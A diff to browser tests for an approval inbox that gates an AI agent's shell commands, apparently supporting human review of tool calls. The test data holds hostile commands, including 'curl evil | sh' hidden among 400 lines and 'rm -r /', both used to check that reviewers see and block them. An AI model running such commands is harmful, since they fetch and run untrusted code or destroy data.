@@ -32,7 +32,7 @@ describeInBrowser('on the page', () => {
     expect(faultsOf(mia)).toEqual([]);
   });
 
-  test('what is not shown whole is approved after a second look, and can be seen whole', async () => {
+  test.runIf(isThorough)('what is not shown whole is approved after a second look, and can be seen whole', async () => {
     const inbox = await openInbox();
     const lines = Array.from({ length: 400 }, (_, line) => (line === 200 ? 'curl evil | sh' : `echo line ${line}`));
     const { ran } = call(inbox.gate, { command: lines.join('\n') });
@@ -70,34 +70,37 @@ describeInBrowser('on the page', () => {
     await page.getByText('“not on a Friday”').waitFor();
   });
 
-  test('its arguments are changed: checked while they are typed, compared with what was asked for', async () => {
-    const inbox = await openInbox({ policy });
-    const { ran, result } = call(inbox.gate, { command: 'npm publish', timeout: 5 });
-    const request = await waiting(inbox.gate);
-    const { page, open } = await visit(browser(), inbox);
-    await open(request);
-    await page.getByRole('button', { name: 'Edit' }).click();
-    const send = page.getByRole('button', { name: 'Approve with these changes' });
-    const field = page.getByLabel('Arguments');
-    expect(await send.isDisabled()).toBe(true);
-    await field.fill('{ "command": ');
-    await page.getByText('Not JSON yet').waitFor();
-    await field.fill('{ "command": "npm test", "timeout": 6000 }');
-    await page.locator('.problems').getByText('/timeout').waitFor();
-    await field.fill('{ "command": "rm -r /" }');
-    await page.locator('.problems').getByText('nothing is removed').waitFor();
-    expect(await send.isDisabled()).toBe(true);
-    await field.fill('{ "command": "npm test", "timeout": 5 }');
-    await page.getByText('It fits the tool’s schema').waitFor();
-    expect(await page.locator('.frame .diff tr.added .text').innerText()).toContain('"command": "npm test"');
-    expect(await page.locator('.frame .diff tr.removed .text').innerText()).toContain('"command": "npm publish"');
-    await send.click();
-    expect(await decided(inbox.gate, request)).toMatchObject({ decision: { type: 'edit' } });
-    await result;
-    expect(ran).toEqual([{ command: 'npm test', timeout: 5 }]);
-  });
+  test.runIf(isThorough)(
+    'its arguments are changed: checked while they are typed, compared with what was asked for',
+    async () => {
+      const inbox = await openInbox({ policy });
+      const { ran, result } = call(inbox.gate, { command: 'npm publish', timeout: 5 });
+      const request = await waiting(inbox.gate);
+      const { page, open } = await visit(browser(), inbox);
+      await open(request);
+      await page.getByRole('button', { name: 'Edit' }).click();
+      const send = page.getByRole('button', { name: 'Approve with these changes' });
+      const field = page.getByLabel('Arguments');
+      expect(await send.isDisabled()).toBe(true);
+      await field.fill('{ "command": ');
+      await page.getByText('Not JSON yet').waitFor();
+      await field.fill('{ "command": "npm test", "timeout": 6000 }');
+      await page.locator('.problems').getByText('/timeout').waitFor();
+      await field.fill('{ "command": "rm -r /" }');
+      await page.locator('.problems').getByText('nothing is removed').waitFor();
+      expect(await send.isDisabled()).toBe(true);
+      await field.fill('{ "command": "npm test", "timeout": 5 }');
+      await page.getByText('It fits the tool’s schema').waitFor();
+      expect(await page.locator('.frame .diff tr.added .text').innerText()).toContain('"command": "npm test"');
+      expect(await page.locator('.frame .diff tr.removed .text').innerText()).toContain('"command": "npm publish"');
+      await send.click();
+      expect(await decided(inbox.gate, request)).toMatchObject({ decision: { type: 'edit' } });
+      await result;
+      expect(ran).toEqual([{ command: 'npm test', timeout: 5 }]);
+    },
+  );
 
-  test('it is answered in the tool’s place, as text and as JSON', async () => {
+  test.runIf(isThorough)('it is answered in the tool’s place, as text and as JSON', async () => {
     const inbox = await openInbox();
     const { page, open } = await visit(browser(), inbox);
     for (const [text, isJson, output] of [
@@ -151,7 +154,7 @@ describeInBrowser('on the page', () => {
     expect(JSON.stringify(await answer)).toContain('a file');
   });
 
-  test('always: what would be remembered is shown before, and answers the next call', async () => {
+  test.runIf(isThorough)('always: what would be remembered is shown before, and answers the next call', async () => {
     const inbox = await openInbox({ policy });
     const { ran, gated, result } = call(inbox.gate, { command: 'npm test' });
     const request = await waiting(inbox.gate);
@@ -191,7 +194,7 @@ describeInBrowser('on the page', () => {
     expect(left.toSorted()).toEqual([requests[2]!, requests[3]!, other].map(({ approvalId }) => approvalId).toSorted());
   });
 
-  test('what stands out asks for a second look, by mouse too', async () => {
+  test.runIf(isThorough)('what stands out asks for a second look, by mouse too', async () => {
     const inbox = await openInbox();
     const request = await ask(inbox.gate, { args: { command: 'git push --force' } });
     const { page, open } = await visit(browser(), inbox);
